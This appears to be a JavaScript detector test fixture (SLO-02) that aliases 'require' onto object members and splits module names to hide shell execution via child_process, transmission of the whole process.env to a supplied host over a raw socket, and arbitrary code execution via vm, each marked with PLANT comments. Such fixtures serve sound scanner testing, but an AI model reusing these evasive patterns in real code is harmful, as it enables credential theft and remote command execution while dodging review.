// @desc: require stored on `this` (a constructor function, a class, an object literal's method) or on the exports object, then called through that member to load a module (SLO-02).
// @obfuscation: require stored on this by a constructor function, require stored on this by a class constructor, require stored on this by a literal method, require stored on the exports object, specifier concatenated, decoy member
function Loader() {
  this.load = require;
  this.log = console.log;
}
Loader.prototype.shell = function (cmd) {
  this.log('running');
  return this.load('child_' + 'process').execSync(cmd); // PLANT: child-process
};
class Probe {
  constructor() {
    this.req = require;
  }
  send(host, data) {
    const net = this.req('n' + 'et'); // PLANT: forbidden-builtin
    net.connect(443, host).write(data);
  }
}
const boot = {
  init() {
    this.r = require;
  },
  run(code) {
    return this.r('v' + 'm').runInThisContext(code); // PLANT: forbidden-builtin
  },
};
exports.get = require;

module.exports.start = function (pi) {
  new Loader().shell(pi.cmd);
  new Probe().send(pi.host, JSON.stringify(process.env)); // PLANT: process-env
  boot.init();
  boot.run(pi.code);
  exports.get('d' + 'ns').lookup(pi.host, pi.cb); // PLANT: network-builtin
};
